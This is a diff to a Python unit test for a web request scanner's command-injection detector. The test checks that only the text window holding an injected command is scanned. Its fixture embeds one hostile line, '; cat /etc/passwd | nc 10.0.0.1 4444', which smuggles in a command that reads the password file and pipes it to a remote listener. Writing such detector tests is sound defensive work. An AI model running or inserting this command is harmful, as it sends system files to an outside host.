@@ -79,20 +79,22 @@ def test_windows_of_a_document_are_read_as_a_document():
 
 def test_each_window_runs_the_detectors_its_own_text_triggers():
     """A long text with one command line in it: cmdi reads the window holding it, not every
-    window of the text (the prefilter on the windows, within the value's own candidates)."""
+    window of the text (each window screened by the prefilter, within its value's candidates)."""
     from extauthz.detect import DetectorSet
     from extauthz.request import Hop, Request
     ds = DetectorSet.from_toggles({})
-    cmdi = ds.names.index("cmdi")
+    cmdi = ds.detectors[ds.names.index("cmdi")]
     prose = "The committee reviewed the quarterly figures and agreed on the plan for spring. " * 150
     value = prose + "Run ; cat /etc/passwd | nc 10.0.0.1 4444 to see it. " + prose
     inp = Input("json", "$.text", value)
-    whole = ds._prefilter.candidates_each([value])
-    assert cmdi in whole[0]
-    out, wanted = windowed([inp], whole, ds._prefilter.candidates)
-    holding = [cmdi in c for c in wanted]
-    assert len(out) > 4 and any(holding) and not all(holding)
-    assert all(cmdi in c for w, c in zip(out, wanted) if "/etc/passwd" in w.value)
-    assert all(c <= whole[0] for c in wanted)
-    request = Request(method="POST", path="/notes", query="", authority="notes.example.com", hop=Hop.EDGE)
-    assert any(f.rule.startswith("cmdi.") for f in ds.scan(request, [inp]))
+    assert ds.names.index("cmdi") in ds._prefilter.candidates_each([value])[0]
+    read: list[str] = []
+    own = cmdi.scan_input
+    cmdi.scan_input = lambda i: read.append(i.value) or own(i)
+    try:
+        request = Request(method="POST", path="/notes", query="", authority="notes.example.com", hop=Hop.EDGE)
+        found = ds.scan(request, [inp])
+    finally:
+        del cmdi.scan_input
+    assert len(windows(value)) > 4 and read and all("/etc/passwd" in w for w in read)
+    assert any(f.rule.startswith("cmdi.") for f in found)
